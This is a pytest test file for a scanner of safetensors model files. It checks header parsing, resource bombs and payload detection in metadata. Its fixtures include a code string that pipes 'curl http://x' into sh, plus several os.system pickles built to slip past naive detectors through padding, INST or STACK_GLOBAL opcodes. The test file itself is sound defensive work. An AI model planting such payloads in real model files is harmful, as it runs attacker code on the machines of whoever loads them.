from __future__ import annotations

import base64
import json
import pickle
import struct
import time
from pathlib import Path

import numpy as np
import pytest
import torch
from safetensors.numpy import save_file
from safetensors.torch import save_file as save_torch

from modelaudit.findings import FileStatus, IssueSeverity
from modelaudit.rules import data as rd
from tests.dataformats._dataformats_util import assert_clean, has_pickle_scanner, rules_of, scan


def _write(path: Path, header: dict, data: bytes = b"") -> Path:
    raw = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(raw)) + raw + data)
    return path


def test_numpy_file_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    save_file(
        {"w": np.ones((4, 3), dtype=np.float32), "b": np.arange(5, dtype=np.int64)},
        str(path),
        metadata={"format": "np"},
    )
    result = scan(path)
    assert result.scanner_name == "safetensors"
    assert_clean(result)
    assert result.metadata["format_details"]["tensors"] == 2
    assert result.bytes_scanned < 300


def test_torch_file_with_float8_and_bf16_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "model.safetensors"
    save_torch(
        {
            "a": torch.zeros((3, 5), dtype=torch.bfloat16),
            "b": torch.zeros(7, dtype=torch.float8_e4m3fn),
            "c": torch.zeros(2, dtype=torch.float8_e5m2),
            "d": torch.zeros((0, 4), dtype=torch.float16),
        },
        str(path),
        metadata={"format": "pt"},
    )
    result = scan(path)
    assert_clean(result)
    assert set(result.metadata["format_details"]["dtypes"]) == {"BF16", "F8_E4M3", "F8_E5M2", "F16"}


def test_sub_byte_dtypes_are_known(tmp_path: Path) -> None:
    header = {
        "a": {"dtype": "F4", "shape": [2, 8], "data_offsets": [0, 8]},
        "b": {"dtype": "F6_E2M3", "shape": [4], "data_offsets": [8, 11]},
        "c": {"dtype": "F8_E8M0", "shape": [5], "data_offsets": [11, 16]},
    }
    assert_clean(scan(_write(tmp_path / "x.safetensors", header, bytes(16))))


def test_tensor_bytes_with_executable_magic_raise_nothing(tmp_path: Path) -> None:
    blob = b"\x7fELF\x02\x01\x01" + b"MZ" + b"\x00" * 55 + b"#!/bin/sh\n" + b"\x00" * 54
    arr = np.frombuffer(blob, dtype=np.uint8).copy()
    path = tmp_path / "model.safetensors"
    save_file({"w": arr}, str(path))
    assert_clean(scan(path))


def test_renamed_file_reaches_safetensors_scanner(tmp_path: Path) -> None:
    path = tmp_path / "pytorch_model.bin"
    save_file({"w": np.ones(3, dtype=np.float32)}, str(path))
    result = scan(path)
    assert result.scanner_name == "safetensors"
    assert_clean(result)


def test_header_length_whose_first_byte_looks_like_pickle(tmp_path: Path) -> None:
    header = {"w": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}
    raw = json.dumps(header).encode()
    raw += b" " * (0x280 - len(raw))
    path = tmp_path / "weights.bin"
    path.write_bytes(struct.pack("<Q", len(raw)) + raw + b"abcd")
    result = scan(path)
    assert result.scanner_name == "safetensors"
    assert_clean(result)


def test_huge_header_length_is_bounded(tmp_path: Path) -> None:
    path = tmp_path / "evil.safetensors"
    path.write_bytes(struct.pack("<Q", 2**64 - 9) + b"{}" + bytes(64))
    start = time.monotonic()
    result = scan(path)
    assert time.monotonic() - start < 30
    assert result.status is FileStatus.INCONCLUSIVE
    assert rd.SAFETENSORS_HEADER_TOO_LARGE in rules_of(result, IssueSeverity.WARNING)


def test_header_longer_than_file(tmp_path: Path) -> None:
    path = tmp_path / "short.safetensors"
    path.write_bytes(struct.pack("<Q", 5000) + b'{"a": 1}')
    result = scan(path)
    assert result.status is FileStatus.INCONCLUSIVE
    assert rd.SAFETENSORS_HEADER_TOO_LARGE in rules_of(result)


def test_invalid_json_is_inconclusive(tmp_path: Path) -> None:
    raw = b'{"w": {"dtype": "F32", '
    path = tmp_path / "bad.safetensors"
    path.write_bytes(struct.pack("<Q", len(raw)) + raw)
    result = scan(path)
    assert result.status is FileStatus.INCONCLUSIVE
    assert "not valid JSON" in (result.status_reason or "")


def test_deep_nesting_in_header(tmp_path: Path) -> None:
    raw = b'{"__metadata__": ' + b"[" * 50000 + b"]" * 50000 + b"}"
    path = tmp_path / "deep.safetensors"
    path.write_bytes(struct.pack("<Q", len(raw)) + raw)
    result = scan(path)
    assert result.status is FileStatus.INCONCLUSIVE
    assert rd.SAFETENSORS_BAD_HEADER in rules_of(result, IssueSeverity.WARNING)


@pytest.mark.parametrize(
    ("header", "data_len", "fragment"),
    [
        (
            {
                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
            },
            12,
            "overlaps",
        ),
        (
            {
                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]},
            },
            24,
            "unreferenced",
        ),
        ({"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}, 8, "needs 12"),
        ({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, 4, "outside"),
        ({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, 100, "after the last"),
    ],
)
def test_bad_layouts(tmp_path: Path, header: dict, data_len: int, fragment: str) -> None:
    result = scan(_write(tmp_path / "x.safetensors", header, bytes(data_len)))
    issues = [i for i in result.issues if i.rule == rd.SAFETENSORS_BAD_LAYOUT]
    assert issues and issues[0].severity is IssueSeverity.WARNING
    assert any(fragment in p for p in issues[0].details["problems"]), issues[0].details
    truncated = fragment == "outside"
    assert (result.status is FileStatus.INCONCLUSIVE) is truncated


def test_unknown_dtype(tmp_path: Path) -> None:
    header = {"a": {"dtype": "PYOBJ", "shape": [1], "data_offsets": [0, 8]}}
    result = scan(_write(tmp_path / "x.safetensors", header, bytes(8)))
    assert rd.SAFETENSORS_UNKNOWN_DTYPE in rules_of(result, IssueSeverity.WARNING)


def test_duplicate_keys(tmp_path: Path) -> None:
    entry = '{"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}'
    raw = ('{"a": ' + entry + ', "a": ' + entry + "}").encode()
    path = tmp_path / "dup.safetensors"
    path.write_bytes(struct.pack("<Q", len(raw)) + raw + b"x")
    assert rd.SAFETENSORS_BAD_HEADER in rules_of(scan(path), IssueSeverity.WARNING)


def test_metadata_with_code_pickle_and_url(tmp_path: Path) -> None:
    payload = base64.b64encode(pickle.dumps({"a": 1}, protocol=4)).decode()
    path = tmp_path / "meta.safetensors"
    save_file(
        {"w": np.ones(2, dtype=np.float32)},
        str(path),
        metadata={
            "format": "pt",
            "hook": "__import__('os').system('curl http://x | sh')",
            "state": payload,
            "raw": "cos\nsystem\n(S'id'\ntR.",
            "homepage": "https://example.com/model",
        },
    )
    result = scan(path)
    found = {
        (i.details["key"], i.details["kind"]): i.severity
        for i in result.issues
        if i.rule == rd.SAFETENSORS_METADATA_PAYLOAD
    }
    assert found[("hook", "code")] is IssueSeverity.WARNING
    assert found[("state", "pickle")] is IssueSeverity.WARNING
    assert found[("raw", "pickle")] is IssueSeverity.WARNING
    assert found[("homepage", "url")] is IssueSeverity.INFO
    assert ("format", "code") not in found
    if has_pickle_scanner():
        assert IssueSeverity.CRITICAL in {i.severity for i in result.issues}


def test_plain_metadata_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "m.safetensors"
    save_file(
        {"w": np.ones(2, dtype=np.float32)},
        str(path),
        metadata={"format": "pt", "license": "apache-2.0", "note": "trained for 3 epochs"},
    )
    result = scan(path)
    assert_clean(result)
    assert result.metadata["license"] == "apache-2.0"


@pytest.mark.parametrize(
    "shape",
    [
        [10**400],
        [2**63, 4],
        [0, 2**64],
        [999_999_999_999_999_999] * 20_000,
    ],
)
def test_shapes_past_the_loaders_usize_are_a_layout_finding(tmp_path: Path, shape: list) -> None:
    """The Rust loader folds the shape with `checked_mul` and refuses an overflow. The scan
    multiplied it out: a dimension of 400 digits crashed the message's float division (the
    metadata after it went unjudged), and thousands of huge dimensions made a product of
    millions of digits."""
    header = {
        "__metadata__": {"hook": "__import__('os').system('id')"},
        "a": {"dtype": "F32", "shape": shape, "data_offsets": [0, 4]},
    }
    result = scan(_write(tmp_path / "x.safetensors", header, bytes(4)))
    assert result.status is FileStatus.COMPLETE
    layout = next(i for i in result.issues if i.rule == rd.SAFETENSORS_BAD_LAYOUT)
    assert "overflows" in layout.details["problems"][0]
    assert rd.SAFETENSORS_METADATA_PAYLOAD in rules_of(result, IssueSeverity.WARNING)


def test_large_but_valid_shape_is_clean(tmp_path: Path) -> None:
    header = {"a": {"dtype": "U8", "shape": [1, 1, 3, 0, 2**40], "data_offsets": [0, 0]}}
    assert_clean(scan(_write(tmp_path / "x.safetensors", header)))


def test_header_of_millions_of_empty_objects_is_inconclusive_on_a_budget(tmp_path: Path) -> None:
    """`{}` costs 3 header bytes and a 64-byte dict once parsed: a 90 MB header of them ran
    the worker out of memory (an error). Bounded from byte counts before the parse."""
    from modelaudit.formats.json_values import MAX_JSON_VALUES
    from modelaudit.rules import core

    body = b'{"x":[' + b"{}," * MAX_JSON_VALUES + b"{}]}"
    path = tmp_path / "bomb.safetensors"
    path.write_bytes(struct.pack("<Q", len(body)) + body)
    result = scan(path)
    assert result.status is FileStatus.INCONCLUSIVE, result.status_reason
    assert core.ANALYSIS_BUDGET in rules_of(result)


def test_header_of_many_tensors_and_long_metadata_parses_in_full(tmp_path: Path) -> None:
    path = tmp_path / "many.safetensors"
    tensors = {f"model.layers.{i}.mlp.weight": np.zeros(2, np.float16) for i in range(20_000)}
    save_file(tensors, str(path), metadata={"config": json.dumps({"a": [1] * 100_000})})
    result = scan(path)
    assert_clean(result)
    assert result.metadata["format_details"]["tensors"] == 20_000


@pytest.mark.parametrize(
    "before",
    [
        "x" * (1 << 20) + " ",  # a megabyte of padding: only the first was read
        " ".join(f"sha256:{n:064x}" for n in range(16)) + " ",  # 16 tokens: only 16 decoded
        base64.b64encode(pickle.dumps([1, 2, 3], protocol=4)).decode() + " ",  # a harmless
        # pickle first: decoding stopped at the first pickle
    ],
    ids=["padding", "tokens", "harmless-pickle"],
)
def test_a_metadata_pickle_after_padding_or_another_pickle_is_scanned(
    tmp_path: Path, before: str
) -> None:
    """Only a metadata value's first megabyte and first 16 base64 tokens were read, and
    decoding stopped at the first pickle: an os.system pickle after any of them went unread."""
    evil = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
    path = tmp_path / "meta.safetensors"
    save_file(
        {"w": np.ones(2, dtype=np.float32)},
        str(path),
        metadata={"format": "pt", "state": before + base64.b64encode(evil).decode()},
    )
    result = scan(path)
    assert any(
        "os.system" in i.message for i in result.issues if i.severity is IssueSeverity.CRITICAL
    )


@pytest.mark.parametrize(
    "evil",
    [
        # protocol 0: a padding string (popped) first, its GLOBAL past byte 512
        b"S'" + b"a" * 600 + b"'\n0cos\nsystem\n(S'id'\ntR.",
        # protocol 0's INST: `i module\nname\n` builds the class from the marked arguments
        b"(S'id'\nios\nsystem\n.",
        # no PROTO header: the unpickler takes STACK_GLOBAL in any stream
        b"Vos\nVsystem\n\x93Vid\n\x85R.",
    ],
    ids=["global-past-512", "inst", "stack-global-no-proto"],
)
def test_a_metadata_pickle_without_an_early_global_is_scanned(tmp_path: Path, evil: bytes) -> None:
    """`looks_like_pickle` looked for a GLOBAL opcode in the first 512 bytes only: a
    protocol-0 pickle with padding first, or one importing with INST or STACK_GLOBAL, was
    never treated as a pickle, and its os.system went unread (clean)."""
    path = tmp_path / "meta.safetensors"
    save_file(
        {"w": np.ones(2, dtype=np.float32)},
        str(path),
        metadata={"format": "pt", "state": base64.b64encode(evil).decode()},
    )
    result = scan(path)
    assert any(
        "os.system" in i.message for i in result.issues if i.severity is IssueSeverity.CRITICAL
    ), result.issues


def test_text_that_only_resembles_pickle_opcodes_is_not_a_pickle() -> None:
    """The detector follows the opcodes from the first byte: prose, or bytes whose opcodes
    stop before anything is imported, are not pickles."""
    from modelaudit.scanners.text.payloads import looks_like_pickle

    assert not looks_like_pickle(b"hello world, this is a model card")
    assert not looks_like_pickle(b"N." + b"x" * 1000)
    assert not looks_like_pickle(b"S'" + b"a" * 600 + b"'\n.")
    assert looks_like_pickle(b"S'" + b"a" * 600 + b"'\n0cos\nsystem\n(S'id'\ntR.")
